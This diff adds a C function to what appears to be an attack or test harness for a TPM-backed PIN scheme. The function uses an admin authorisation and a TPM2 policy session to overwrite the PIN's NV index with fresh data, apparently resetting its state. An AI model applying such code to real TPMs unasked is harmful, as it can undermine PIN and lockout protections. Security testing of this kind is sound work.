@@ -188,3 +188,23 @@ TSS2_RC attack_sign_in(struct attack *attack, const struct secret *pin_auth)
     tpm_forget_auth(&attack->tpm, attack->pin);
     return rc;
 }
+
+TSS2_RC attack_write_by_admin(struct attack *attack, const struct secret *admin_auth)
+{
+    static const TPM2B_MAX_NV_BUFFER fresh = {.size = INDEX_SIZE, .buffer = {[7] = 5}};
+    ESYS_TR policy = ESYS_TR_NONE;
+    TSS2_RC rc = start(attack, ESYS_TR_NONE, TPM2_SE_POLICY, &policy);
+
+    if (tpm_set_auth(&attack->tpm, attack->admin, admin_auth, NULL) != VSC_OK)
+        rc = TSS2_ESYS_RC_GENERAL_FAILURE;
+    if (rc == TSS2_RC_SUCCESS)
+        rc = policy_secret(attack, attack->admin, policy, ESYS_TR_PASSWORD);
+    if (rc == TSS2_RC_SUCCESS) {
+        finish_policy(attack, THEN_COMMAND_OR, TPM2_CC_NV_Write, policy);
+        rc = Esys_NV_Write(attack->tpm.esys, attack->pin, attack->pin, policy, ESYS_TR_NONE,
+                           ESYS_TR_NONE, &fresh, 0);
+    }
+    tpm_flush(&attack->tpm, &policy);
+    tpm_forget_auth(&attack->tpm, attack->admin);
+    return rc;
+}
